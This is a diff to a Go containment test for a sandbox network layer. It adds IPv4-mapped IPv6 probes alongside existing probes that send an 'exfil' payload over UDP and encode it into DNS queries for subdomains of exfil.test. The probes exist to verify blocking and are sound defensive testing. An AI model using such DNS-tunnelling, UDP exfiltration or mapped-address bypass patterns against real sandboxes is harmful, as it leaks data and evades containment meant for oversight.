@@ -393,25 +393,30 @@ func TestLocalModeContainment(t *testing.T) {
 		return a
 	}
 	probes := [][]string{
-		tcp(p.addr4(8443).String()),                                // 0
-		tcp(p.addr6(8443).String()),                                // 1
-		tcp(p.podIP4.String() + ":7777"),                           // 2
-		tcp("127.0.0.1:7777"),                                      // 3: the command's own loopback
-		tcp("[::1]:7777"),                                          // 4
-		{"udp", "-addr", p.addr4(443).String(), "-payload", exfil}, // 5
-		{"udp", "-addr", p.addr6(443).String(), "-payload", exfil}, // 6
-		{"ping", "-addr", p.netIP4.String(), "-timeout", "2s"},     // 7
-		{"ping", "-addr", p.netIP6.String(), "-timeout", "2s"},     // 8
-		{"http", "-url", "http://" + hostV6 + "/local/v6"},         // 9
-		dnsq(p.addr4(53).String(), hostAPI, "A", false),            // 10
-		dnsq(p.addr6(53).String(), hostAPI, "AAAA", true),          // 11
-		dnsq("127.0.0.53:53", exfil+".exfil.test", "TXT", false),   // 12
-		dnsq(p.addr4(53).String(), hostOther, "A", true),           // 13
-		dnsq("[::1]:53", exfil+"-v6.exfil.test", "AAAA", false),    // 14
+		tcp(p.addr4(8443).String()),                                                                  // 0
+		tcp(p.addr6(8443).String()),                                                                  // 1
+		tcp(p.podIP4.String() + ":7777"),                                                             // 2
+		tcp("127.0.0.1:7777"),                                                                        // 3: the command's own loopback
+		tcp("[::1]:7777"),                                                                            // 4
+		{"udp", "-addr", p.addr4(443).String(), "-payload", exfil},                                   // 5
+		{"udp", "-addr", p.addr6(443).String(), "-payload", exfil},                                   // 6
+		{"ping", "-addr", p.netIP4.String(), "-timeout", "2s"},                                       // 7
+		{"ping", "-addr", p.netIP6.String(), "-timeout", "2s"},                                       // 8
+		{"http", "-url", "http://" + hostV6 + "/local/v6"},                                           // 9
+		dnsq(p.addr4(53).String(), hostAPI, "A", false),                                              // 10
+		dnsq(p.addr6(53).String(), hostAPI, "AAAA", true),                                            // 11
+		dnsq("127.0.0.53:53", exfil+".exfil.test", "TXT", false),                                     // 12
+		dnsq(p.addr4(53).String(), hostOther, "A", true),                                             // 13
+		dnsq("[::1]:53", exfil+"-v6.exfil.test", "AAAA", false),                                      // 14
+		tcp("[::ffff:" + p.netIP4.String() + "]:8443"),                                               // 15: IPv4-mapped IPv6
+		{"http", "-url", "http://[::ffff:" + p.netIP4.String() + "]/local/mapped", "-host", hostAPI}, // 16
 	}
 	res := l.clientBatch(t, probes)
-	for i := 0; i <= 2; i++ {
+	for _, i := range []int{0, 1, 2, 15} {
 		assertNoConnection(t, strings.Join(probes[i], " "), res[i])
+	}
+	if r := res[16]; r.Status != 200 || r.Echo == nil || r.Echo.Path != "/local/mapped" {
+		t.Errorf("http to an IPv4-mapped address: status %d error %q, want 200 through BotBox", r.Status, r.Error)
 	}
 	for i := 3; i <= 4; i++ {
 		if res[i].Connected {
